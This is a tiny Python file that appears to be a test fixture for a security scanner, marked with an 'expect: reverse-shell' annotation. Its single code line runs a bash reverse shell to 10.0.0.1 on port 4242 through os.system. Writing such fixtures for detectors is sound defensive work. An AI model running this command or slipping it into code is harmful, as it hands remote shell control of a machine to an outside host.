# expect: reverse-shell 4:23
import os

os.system("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
